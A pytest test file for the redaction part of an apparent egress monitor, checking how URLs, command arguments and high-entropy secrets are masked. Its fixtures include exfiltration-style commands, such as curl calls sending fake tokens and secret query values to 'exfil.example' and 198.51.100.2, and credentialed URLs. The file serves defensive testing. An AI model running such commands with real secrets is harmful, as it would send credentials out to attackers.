"""Structural redaction: what is kept of targets and argv, and what is masked."""

from __future__ import annotations

import pytest

from egress_monitor import redact

VALUE = "wJalrXUtnFEMIK7MDENGbPxRfiCYzEXAMPLEfake"


@pytest.mark.parametrize(("raw", "path", "names"), [
    (f"/p5?t={VALUE}", "/p5", ["t"]),
    (f"/a/b?x=1&y={VALUE}&x=2#frag", "/a/b", ["x", "y"]),
    ("/plain", "/plain", []),
    (f"http://user:{VALUE}@exfil.example:8080/u?k={VALUE}", "http://exfil.example:8080/u",
     ["k"]),
    ("exfil.example:443", "exfil.example:443", []),
    (f"/p#{VALUE}", "/p", []),
    ("?" + "&".join(f"n{i}=v" for i in range(100)), "", [f"n{i}" for i in range(32)]),
])
def test_a_target_keeps_its_path_and_query_names_only(raw: str, path: str,
                                                       names: list[str]) -> None:
    assert redact.target(raw) == (path, names)


@pytest.mark.parametrize(("argv", "masked"), [
    (["curl", f"--token={VALUE}"], ["curl", "--token=***"]),
    (["tool", "--password", "hunter2", "next"], ["tool", "--password", "***", "next"]),
    (["env", f"AWS_SECRET_ACCESS_KEY={VALUE}", "HOME=/root"],
     ["env", "AWS_SECRET_ACCESS_KEY=***", "HOME=/root"]),
    (["curl", "-H", f"Authorization: Bearer {VALUE}", "-H", "X-Plain: 1"],
     ["curl", "-H", "Authorization: ***", "-H", "X-Plain: ***"]),
    (["curl", f"http://198.51.100.2:8080/p?t={VALUE}&u=1"],
     ["curl", "http://198.51.100.2:8080/p?t=***&u=***"]),
    (["git", "clone", f"https://x:{VALUE}@github.example/o/r"],
     ["git", "clone", "https://***@github.example/o/r"]),
    (["curl", "-u", "me:hunter2", "-d", "a=b"], ["curl", "-u", "***", "-d", "***"]),
    (["sh", "-c", f"echo {VALUE}"], ["sh", "-c", "echo ***"]),
    ([VALUE], ["***"]),
    (["rustc", "--crate-name", "evil_dep", "-C", "metadata=9f0c4a1e2b3d4c5e",
      "/w/target/debug/deps/libevil_dep-9f0c4a1e2b3d4c5e.rlib", "--edition=2021"],
     ["rustc", "--crate-name", "evil_dep", "-C", "metadata=9f0c4a1e2b3d4c5e",
      "/w/target/debug/deps/libevil_dep-9f0c4a1e2b3d4c5e.rlib", "--edition=2021"]),
])
def test_argv_keeps_its_shape_with_secret_values_masked(argv: list[str],
                                                        masked: list[str]) -> None:
    assert redact.argv(argv) == masked


def test_words_and_paths_are_not_mistaken_for_keys() -> None:
    assert not redact.high_entropy("build-script-build-and-more-words")
    assert not redact.high_entropy("/usr/lib/x86_64-linux-gnu/libc.so.6")
    assert not redact.high_entropy("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa")
    assert redact.high_entropy(VALUE)
    assert redact.high_entropy("ghp_0fake1token2value3never4real5ab")


@pytest.mark.parametrize("junk", ["", "?", "://", "a://b@", "&&&=", "\udcff?\x00=\x00",
                                  "x" * 100_000 + "?" + "=" * 1000])
def test_every_function_is_total(junk: str) -> None:
    redact.target(junk)
    redact.argv([junk, junk, "--token", junk, "-H", junk])
    redact.text(junk)
